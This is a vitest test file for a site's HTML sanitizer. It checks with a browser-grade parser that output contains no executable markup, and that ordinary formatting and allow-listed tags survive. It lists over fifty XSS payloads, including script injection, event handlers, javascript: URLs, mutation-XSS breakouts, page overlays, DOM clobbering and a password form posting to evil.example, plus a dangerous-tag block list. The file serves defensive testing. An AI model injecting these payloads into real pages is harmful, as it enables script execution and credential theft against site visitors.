// @module-tag security
import { describe, expect, it } from 'vitest';
// parse5 is the WHATWG HTML parser (the algorithm browsers run), installed with rehype-katex: the output
// is checked the way a browser would read it, not with regular expressions alone.
import { parseFragment } from 'parse5';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, NON_TEXT_TAGS } from '@/lib/markup/allowed-html';
import { sanitizeHtml } from '@/lib/sanitize';

interface Node {
  nodeName: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  content?: Node;
}

function elements(node: Node): Node[] {
  const children = [...(node.childNodes ?? []), ...(node.content ? [node.content] : [])];
  return [...(node.attrs ? [node] : []), ...children.flatMap(elements)];
}

const DANGEROUS_TAGS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea',
  'select', 'option', 'meta', 'link', 'base', 'style', 'svg', 'math', 'template', 'noscript', 'video', 'audio',
  'source', 'track', 'marquee', 'isindex', 'details', 'dialog', 'portal', 'xmp', 'plaintext', 'title', 'body',
  'html', 'head', 'animate', 'set', 'image', 'use', 'foreignobject',
]);

/** Every way the sanitised HTML could still run code or cover the page, as a browser would parse it. */
function executableParts(html: string): string[] {
  const problems: string[] = [];
  for (const el of elements(parseFragment(html) as unknown as Node)) {
    if (DANGEROUS_TAGS.has(el.nodeName)) problems.push(`<${el.nodeName}>`);
    for (const { name, value } of el.attrs ?? []) {
      if (/^on/i.test(name)) problems.push(`${el.nodeName}[${name}]`);
      if (['style', 'class', 'id', 'name', 'srcdoc', 'formaction', 'action', 'xlink:href', 'srcset', 'background', 'dynsrc', 'lowsrc'].includes(name.toLowerCase())) {
        problems.push(`${el.nodeName}[${name}]`);
      }
      // What a browser would treat as the scheme: control characters and whitespace are ignored.
      const url = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
      if (/^(javascript|vbscript|data|file|livescript|mocha):/.test(url)) problems.push(`${el.nodeName}[${name}=${value}]`);
    }
  }
  // Text is escaped, so these can only appear as markup.
  for (const marker of [/<script/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<meta/i, /<base/i, /<form/i, /<style/i]) {
    if (marker.test(html)) problems.push(`raw ${marker.source}`);
  }
  return problems;
}

const XSS_PAYLOADS: [string, string][] = [
  ['plain script tag', '<script>window.__xss = 1</script>'],
  ['uppercase script tag', '<SCRIPT>alert(1)</SCRIPT>'],
  ['mixed-case script with src', '<ScRiPt src="https://evil.example/x.js"></sCrIpT>'],
  ['script with a slash attribute separator', '<script/xss src="https://evil.example/x.js"></script>'],
  ['nested script halves', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script with a null byte in the name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['unclosed script', '<script>alert(1)//'],
  ['script in an HTML comment trick', '<!--<script>--><script>alert(1)</script>-->'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror split by newlines', '<img\nsrc=x\nonerror=alert(1)>'],
  ['img onerror in mixed case with backticks', '<IMG SRC=x OnErRoR=`alert(1)`>'],
  ['img with a javascript src', '<img src="javascript:alert(1)">'],
  ['img with a data URL of SVG', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['img srcset javascript', '<img srcset="javascript:alert(1) 1x" src="/placeholder.svg">'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with a script inside', '<svg><script>alert(1)</script></svg>'],
  ['svg animate setting href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>'],
  ['math element with an xlink href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['event handler on an allowed tag', '<p onclick="alert(1)" onmouseover="alert(2)">hello</p>'],
  ['link with javascript href', '<a href="javascript:alert(1)">click</a>'],
  ['link with uppercase JAVASCRIPT href', '<a href="JAVASCRIPT:alert(1)">click</a>'],
  ['link with tab-obfuscated scheme', '<a href="java\tscript:alert(1)">click</a>'],
  ['link with newline-obfuscated scheme', '<a href="java\nscript:alert(1)">click</a>'],
  ['link with entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ['link with hex entities and no semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>'],
  ['link with leading control characters', '<a href="\u0001\u0002 javascript:alert(1)">click</a>'],
  ['link with a named-entity colon', '<a href="javascript&colon;alert(1)">click</a>'],
  ['link with vbscript', '<a href="vbscript:msgbox(1)">click</a>'],
  ['link with data text/html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['iframe with srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['iframe with javascript src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">'],
  ['form with action and a submit button', '<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">Go</button></form>'],
  ['object with data', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['style element with expression', '<style>body{background:url("javascript:alert(1)");width:expression(alert(1))}</style>'],
  ['style attribute with expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style attribute overlay', '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white">Log in again</div>'],
  ['utility-class overlay', '<div class="fixed inset-0 z-50 bg-background">Your session expired</div>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['noscript mutation XSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template mutation XSS', '<template><img src=x onerror=alert(1)></template>'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['title breakout', '<title></title><img src=x onerror=alert(1)>'],
  ['comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ['CDATA-looking section', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['attribute quote breakout', '<img alt="x" src="/a.png" " onerror="alert(1)">'],
  ['table background javascript', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['DOM clobbering with id and name', '<img id="__NEXT_DATA__" name="getElementById" src="/a.png">'],
];

describe('sanitizeHtml removes executable content (known XSS payloads)', () => {
  it.each(XSS_PAYLOADS)('%s', (_name, payload) => {
    const clean = sanitizeHtml(payload);
    expect(executableParts(clean)).toEqual([]);
    // Sanitising is stable: a second pass finds nothing more to change.
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it('the check itself recognises unsanitised payloads (so a passing test means something)', () => {
    const flagged = XSS_PAYLOADS.filter(([, payload]) => executableParts(payload).length > 0);
    expect(flagged.length).toBeGreaterThanOrEqual(XSS_PAYLOADS.length - 3);
  });

  it('keeps the text around a removed payload', () => {
    expect(sanitizeHtml('<p>before<script>alert(1)</script> after</p>')).toBe('<p>before after</p>');
  });

  it('drops the text of script and style elements instead of showing it', () => {
    expect(sanitizeHtml('<script>window.__xss = 1</script><style>p{}</style>')).toBe('');
  });
});

describe('sanitizeHtml keeps ordinary formatting', () => {
  it('keeps paragraphs, emphasis, headings, quotes, lists, code and rules', () => {
    const html =
      '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4>' +
      '<p>A <strong>bold</strong>, <em>italic</em>, <u>underlined</u> and <s>struck</s> word.<br>Next line.</p>' +
      '<blockquote><p>Quoted</p></blockquote><ul><li>a</li></ul><ol><li>b</li></ol>' +
      '<pre><code>x = 1</code></pre><p><code>inline</code></p><hr>';
    expect(sanitizeHtml(html)).toBe(html.replace('<hr>', '<hr />').replace('<br>', '<br />'));
  });

  it('keeps tables', () => {
    const html = '<table><thead><tr><th>n</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps relative and https links, with a safe rel, and opens external ones in a new tab', () => {
    expect(sanitizeHtml('<a href="/blog">Blog</a>')).toBe('<a rel="noopener noreferrer nofollow" href="/blog">Blog</a>');
    expect(sanitizeHtml('<a href="https://example.org/x" target="_self" rel="opener">x</a>')).toBe(
      '<a rel="noopener noreferrer nofollow" href="https://example.org/x" target="_blank">x</a>',
    );
    expect(sanitizeHtml('<a href="mailto:me@example.org">mail</a>')).toContain('href="mailto:me@example.org"');
  });

  it('keeps images with their source and alternative text, loaded lazily', () => {
    expect(sanitizeHtml('<img src="/placeholder.svg" alt="A view" width="640" height="abc">')).toBe(
      '<img loading="lazy" src="/placeholder.svg" alt="A view" width="640" />',
    );
    expect(sanitizeHtml('<img src="https://images.example.org/a.jpg" alt="">')).toContain('src="https://images.example.org/a.jpg"');
  });

  it('leaves the sample personal posts unchanged', () => {
    const html = '<p>A quick update:</p><ul><li>The paper has been accepted.</li></ul><p><em>Asking is a service.</em></p>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('escapes text so that angle brackets stay text', () => {
    expect(sanitizeHtml('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>')).toBe('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>');
  });
});

// The editor's paste filter (components/admin/paste-filter.ts) reads the same lists; these tests pin the
// server to them, so a list edited in one place only cannot pass unnoticed.
describe('sanitizeHtml follows the shared allow-list in lib/markup/allowed-html.ts', () => {
  /** A value each listed attribute keeps on the server (addresses external, sizes in whole pixels). */
  const SAMPLE_VALUES: Record<string, string> = { href: 'https://example.org/x', src: 'https://example.org/a.png', width: '10', height: '10', colspan: '2', rowspan: '2', start: '3', scope: 'col', target: '_blank', loading: 'lazy' };

  it.each([...ALLOWED_TAGS])('keeps <%s>', (tag) => {
    expect(sanitizeHtml(`<${tag}>x</${tag}>`)).toMatch(new RegExp(`^<${tag}[\\s>/]`));
  });

  it.each(Object.entries(ALLOWED_ATTRIBUTES).flatMap(([tag, names]) => names.map((name) => [tag, name])))('keeps <%s %s>', (tag, name) => {
    // A link's target comes from its address, so every link sample carries an external one.
    const href = tag === 'a' && name !== 'href' ? ` href="${SAMPLE_VALUES.href}"` : '';
    expect(sanitizeHtml(`<${tag}${href} ${name}="${SAMPLE_VALUES[name] ?? 'v'}">x</${tag}>`)).toMatch(new RegExp(`^<${tag}[^>]*\\s${name}="`));
  });

  it('drops an element not on the list but keeps its text, and an attribute listed only for another element', () => {
    expect(sanitizeHtml('<article><p title="t" colspan="2" start="3">x</p></article>')).toBe('<p>x</p>');
  });

  it.each([...NON_TEXT_TAGS])('drops <%s> together with its text', (tag) => {
    expect(sanitizeHtml(`<p>kept</p><${tag}>hidden</${tag}>`)).toBe('<p>kept</p>');
  });
});
